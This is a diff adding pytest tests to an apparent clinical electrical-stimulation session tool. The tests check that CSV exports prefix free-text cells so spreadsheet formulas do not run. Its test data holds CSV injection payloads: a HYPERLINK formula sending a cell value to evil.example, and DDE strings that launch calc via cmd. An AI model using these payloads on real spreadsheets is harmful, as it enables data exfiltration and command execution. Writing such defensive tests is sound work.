@@ -29,6 +29,7 @@ from estim.cli.records import describe
 from estim.clock import ManualClock
 from estim.device import connect
 from estim.export import FORMATS
+from estim.export.as_csv import cell
 from estim.export.facts import highest_reached, reached_trace
 from estim.journal import Journal
 from estim.plan import ChannelPlan, SessionPlan
@@ -36,6 +37,8 @@ from estim.protocol import OutputStarted
 from estim.record import EventRecord, SessionRecord, UnitRecord
 from estim.session import Session
 from estim.sim import SimulatedUnit, UnitConfig, serve
+
+from .records_helpers import make_plan, run
 
 PLAN = SessionPlan(
     dwell=60,
@@ -176,6 +179,57 @@ def built(
 
 START = [("start_requested", {}, None), ("start_accepted", {"dwell_s": 60.0, "ramp_s": 5.0}, None)]
 ENDED = ("ended", {"outcome": "link_lost", "reason": "silent", "delivered_ms": None}, None)
+
+
+# --- 3. CSV cells never start a formula ------------------------------------------------------
+
+EVIL = {
+    "patient_ref": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "clinician": "+cmd|' /C calc'!A0",
+    "site": '-2+3+cmd|"/c calc"!A1',
+    "condition": '@SUM(1+1)*cmd|"/c calc"!A1',
+    "notes": "\tnotes",
+}
+
+
+def test_csv_free_text_is_neutralised(tmp_path: Path) -> None:
+    record = run(tmp_path / "estim.db", make_plan(**EVIL))
+    row = csv_row(record)
+    for field, value in EVIL.items():
+        assert row[field] == "'" + value
+    assert (row["planned_s"], row["delivered_s"], row["ch1_planned_ma"]) == ("60", "60", "12")
+    cr = record.model_copy(
+        update={"plan": record.plan.model_copy(update={"notes": "\rhello", "site": "a=b"})}
+    )
+    assert (csv_row(cr)["notes"], csv_row(cr)["site"]) == ("'\rhello", "a=b")
+
+
+def test_events_csv_free_text_is_neutralised() -> None:
+    record = built(
+        [
+            *START,
+            ("output_started", {"dwell_ms": 60000, "channel_mask": 1}, 1000),
+            ("amplitude_set", {"channel": 1, "ma": 12.5}, None),
+            ("stop_requested", {"reason": "OPERATOR", "detail": "=1+1"}, None),
+            ("unit_stopped", {"reason": "@x", "delivered_ms": 2000}, 3000),
+            ("custom", {"note": "-oops"}, None),
+            ("ended", {"outcome": "stopped", "reason": "+cmd", "delivered_ms": 2000}, None),
+        ],
+        outcome="stopped",
+        delivered_ms=2000,
+    )
+    rows = list(csv.DictReader(io.StringIO(FORMATS["events-csv"].render([record]).decode())))
+    by_kind = {r["kind"]: r for r in rows}
+    assert by_kind["stop_requested"]["detail"] == "'=1+1"
+    assert by_kind["unit_stopped"]["reason"] == "'@x"
+    assert by_kind["ended"]["reason"] == "'+cmd"
+    assert by_kind["custom"]["other"] == "note=-oops"  # (starts with a letter: left alone)
+    assert by_kind["amplitude_set"]["ma"] == "12.5"
+    assert by_kind["unit_stopped"]["delivered_ms"] == "2000"
+
+
+def test_numbers_stay_numbers() -> None:
+    assert (cell(-2.5), cell(-3), cell("-3")) == ("-2.5", -3, "'-3")
 
 
 # --- 4. a unit restart ends the output time line -----------------------------------------
